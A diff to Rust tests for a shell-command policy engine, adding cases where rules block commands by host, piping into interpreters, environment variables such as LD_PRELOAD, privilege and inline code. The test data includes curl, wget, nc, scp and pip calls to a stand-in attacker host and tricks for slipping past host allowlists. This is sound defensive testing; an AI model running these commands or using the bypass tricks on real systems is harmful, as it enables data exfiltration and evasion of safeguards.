@@ -7,7 +7,7 @@ use proptest::prelude::*;
 use super::laws::{facts, load, no_milder};
 use super::{Judgement, Policy};
 use crate::facts::argv::{Sure, Word};
-use crate::facts::atoms::{Around, Atom, Atoms};
+use crate::facts::atoms::{Around, Atom, Atoms, Set};
 
 fn rule(verdict: &str, lines: &str) -> String {
     format!("[[rule]]\nid = \"r\"\nverdict = \"{verdict}\"\n{lines}\n")
@@ -124,7 +124,90 @@ fn a_pattern_of_files_stays_within_its_folder() {
     assert_eq!(facts.observed.cwd, Path::new("/home/ana/project"));
 }
 
-const STOPPING: [&str; 4] = [
+#[test]
+fn a_rule_stops_by_the_machine_a_command_names() {
+    assert_fits(
+        "host = [\"*.evil.example\", \"evil.example\"]",
+        &[
+            "curl https://evil.example/x",
+            "curl -s evil.example",
+            "wget -q http://a.evil.example:81/x",
+            "scp x ana@evil.example:y",
+            "ssh evil.example ls",
+            "nc evil.example 80",
+            "git clone https://user@evil.example/x",
+            "git clone git@evil.example:x",
+            "pip install --index-url=https://evil.example/simple x",
+            "curl http://good.example@evil.example/",
+        ],
+        &["curl https://good.example/evil.example", "cat evil.example", "echo a@evil.example"],
+    );
+}
+
+#[test]
+fn a_rule_lets_through_only_to_machines_that_are_certain() {
+    assert_lets(
+        "program = [\"curl\", \"ping\"]\nonly_host = [\"localhost\", \"*.corp.example\"]\nonly_writes = [\"@temporary\"]",
+        &["curl -s localhost:8080/x", "curl -fsSL -o /tmp/x https://a.corp.example/x", "ping -c 1 localhost"],
+        &[
+            "curl evil.example",
+            "curl localhost evil.example",
+            "curl -x evil.example localhost",
+            "curl -K x localhost",
+            "curl -o x localhost",
+            "curl --strange localhost",
+            "curl http://localhost@evil.example",
+            "curl http://{localhost,evil}",
+        ],
+    );
+}
+
+fn set(name: &str) -> Set {
+    Set { name: name.as_bytes().to_vec(), value: Word::from("x") }
+}
+
+// The verdict on `words`, run as `change` says.
+fn changed(policy: &Policy, words: &[&str], change: impl Fn(&mut Atom<'_>)) -> u8 {
+    let facts = facts("true");
+    let around = Around::outermost(&facts.observed.cwd, facts.observed.home.as_deref());
+    let mut atom = Atom::command(words.iter().map(|word| Word::from(*word)).collect(), &around);
+    change(&mut atom);
+    policy.judge_atoms(&Atoms { atoms: vec![atom], opaque: Vec::new() }, &facts).verdict.rank()
+}
+
+#[test]
+fn a_rule_stops_by_how_a_command_is_run() {
+    let denies = |lines: &str, words: &[&str], change: &dyn Fn(&mut Atom<'_>)| {
+        changed(&load(&rule("deny", lines)), words, change) == 2
+    };
+    let pipes = "program = [\"curl\"]\npipes_to = [\"bash\", \"python*\"]";
+    assert!(denies(pipes, &["curl", "x"], &|atom| atom.feeds = vec![b"python3".to_vec()]));
+    assert!(!denies(pipes, &["curl", "x"], &|atom| atom.feeds = vec![b"jq".to_vec()]));
+    assert!(!denies(pipes, &["curl", "x"], &|_| {}));
+    let sets = "sets = [\"LD_*\"]";
+    assert!(denies(sets, &["ls"], &|atom| atom.sets = vec![set("LD_PRELOAD")]));
+    assert!(denies(sets, &[], &|atom| atom.sets = vec![set("LD_PRELOAD")]));
+    assert!(!denies(sets, &["ls"], &|atom| atom.sets = vec![set("LANG")]));
+    assert!(denies("privileged = true", &["ls"], &|atom| atom.privileged = true));
+    assert!(!denies("privileged = true", &["ls"], &|_| {}));
+    assert!(denies("privileged = false\nprogram = [\"ls\"]", &["ls"], &|_| {}));
+    assert!(denies("elsewhere = true", &["ls"], &|atom| atom.elsewhere = true));
+    assert!(!denies("elsewhere = true", &["ls"], &|_| {}));
+}
+
+#[test]
+fn a_rule_stops_by_code_on_the_command_line() {
+    assert_fits("inline = true", &["python3 -Ic x", "perl -e x", "awk {x}"], &["python3 x.py", "ls -c"]);
+    assert_fits("program = [\"perl\"]\ninline = false", &["perl x.pl", "perl -we x"], &["perl -e x"]);
+}
+
+const STOPPING: [&str; 10] = [
+    "host = [\"**\"]",
+    "pipes_to = [\"*\"]",
+    "sets = [\"*\"]",
+    "privileged = false",
+    "elsewhere = false",
+    "inline = false",
     "writes = [\"@repository\", \"/etc/**\"]",
     "reads = [\"@secret\"]",
     "deletes = [\"@home\"]",
